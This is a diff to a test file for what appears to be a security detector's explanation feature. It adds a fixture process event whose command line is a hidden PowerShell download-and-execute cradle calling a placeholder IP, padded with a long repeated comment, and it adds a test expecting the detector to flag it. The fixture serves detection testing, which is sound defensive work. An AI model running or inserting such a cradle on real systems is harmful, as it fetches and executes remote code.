@@ -22,6 +22,11 @@ const events = [
     userId: 'S-1-5-18',
     integrityLevel: 'System',
   }),
+  processStart({
+    executable: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
+    commandLine: `powershell.exe <# ${'an update '.repeat(200)} #> -nop -w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')`,
+    ...person,
+  }),
   processStart({ commandLine: '\u0000\u202e"%%%' }),
   processStart({}),
 ];
@@ -51,6 +56,11 @@ describe('explanations of the shipped model', () => {
     expect(all).toContain('"-enc"');
     expect(all).toContain('powershell started by winword');
     expect(all).toContain('an office program that starts a shell or a system tool');
+  });
+
+  test('are of the part of a long line that is scored', () => {
+    const texts = explainer.explain(events[2]!).map(({ text }) => text);
+    expect(texts).toContain('PowerShell told to hide or to skip its checks');
   });
 
   test('are short printable ASCII whatever the event holds', () => {
